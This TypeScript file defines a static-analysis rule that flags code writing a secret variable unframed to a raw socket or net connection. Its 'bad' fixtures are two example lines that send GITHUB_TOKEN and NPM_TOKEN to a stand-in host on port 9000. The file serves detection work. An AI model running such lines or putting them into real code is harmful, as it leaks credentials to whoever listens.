import { all, argument, call, from, not, written } from "../match.ts";
import { defineRule } from "../rule.ts";
import { RAW_SENDS } from "../vocabulary/network-calls.ts";
import { secretVariable } from "../vocabulary/sources.ts";

export default defineRule({
  id: "bare-secret-sent",
  category: "credential_access",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript"],
  title: "a secret is written to a bare connection, with nothing around it",
  why: "No service takes a key without a word of its protocol; whoever listens at the other end has it.",
  fix: "Use the client of the service, which sends the key where it belongs.",
  references: ["ATT&CK T1041", "ATT&CK T1552", "CWE-319"],
  match: call({
    of: RAW_SENDS.filter((name) => /^(socket|js\.net|js\.dgram)\b.*\.(send|sendall|sendto|write|end)$/.test(name)),
    where: all(argument(0, from(secretVariable)), not(argument(0, written))),
  }),
  bad: [
    'import os, socket\ns = socket.create_connection(("h.example", 9000))\ns.sendall(os.environ["GITHUB_TOKEN"].encode())',
    { "a.js": 'require("net").connect(9000, "h.example").write(process.env.NPM_TOKEN);' },
  ],
  good: [
    'import os, socket\ns = socket.create_connection(("irc.example", 6667))\ns.sendall(f"PASS {os.environ[\'IRC_TOKEN\']}\\r\\n".encode())',
    'import os, socket\ns = socket.create_connection(("h.example", 9000))\ns.sendall(os.environ["NAME"].encode())',
  ],
});
